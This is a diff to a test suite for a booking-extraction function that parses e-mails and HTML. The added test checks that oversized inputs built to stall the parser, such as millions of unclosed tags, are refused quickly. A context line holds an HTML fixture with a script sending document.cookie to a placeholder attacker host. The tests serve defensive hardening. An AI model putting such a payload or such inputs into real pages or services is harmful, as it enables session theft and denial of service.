@@ -109,6 +109,15 @@ describe('readBookings: hostile e-mails and HTML', () => {
     );
   }, 5000);
 
+  it('reads text of endless unclosed tags in linear time', async () => {
+    const unclosedTags = `<html>${'<a'.repeat(2_000_000)}`;
+    const unclosedScripts = `<html><script type="application/ld+json">{"@type":"LodgingReservation","reservationFor":{"name":"${'<script'.repeat(500_000)}"}}</script>`;
+    const endlessTypes = '{"@type": "LodgingReservation", '.repeat(300_000);
+    for (const text of [unclosedTags, unclosedScripts, endlessTypes]) {
+      await expect(readBookings({ text })).rejects.toEqual(refused('no_booking_found'));
+    }
+  }, 10_000);
+
   it('keeps no script, tag or handler of the HTML in a draft: values are plain text', async () => {
     const html = `<html><head><script>fetch('https://evil.example.test/'+document.cookie)</script>
       <script type="application/ld+json">{"@context":"http://schema.org","@type":"LodgingReservation",
